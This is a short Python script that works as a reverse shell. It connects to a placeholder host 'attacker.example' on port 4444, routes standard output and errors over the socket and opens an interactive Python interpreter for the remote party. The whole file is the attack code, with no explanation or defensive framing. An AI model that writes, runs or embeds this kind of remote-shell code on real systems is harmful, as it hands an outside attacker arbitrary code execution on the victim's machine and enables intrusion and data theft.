import code
import contextlib
import socket


class NetConsole(code.InteractiveConsole):
    def __init__(self, stream):
        super().__init__(locals={})
        self.stream = stream

    def raw_input(self, prompt=""):
        self.write(prompt)
        line = self.stream.readline()
        if not line:
            raise EOFError
        return line.rstrip("\n")

    def write(self, data):
        self.stream.write(data)
        self.stream.flush()


def main():
    conn = socket.create_connection(("attacker.example", 4444))
    stream = conn.makefile("rw", buffering=1)
    with contextlib.redirect_stdout(stream), contextlib.redirect_stderr(stream):
        NetConsole(stream).interact(banner="", exitmsg="")


if __name__ == "__main__":
    main()
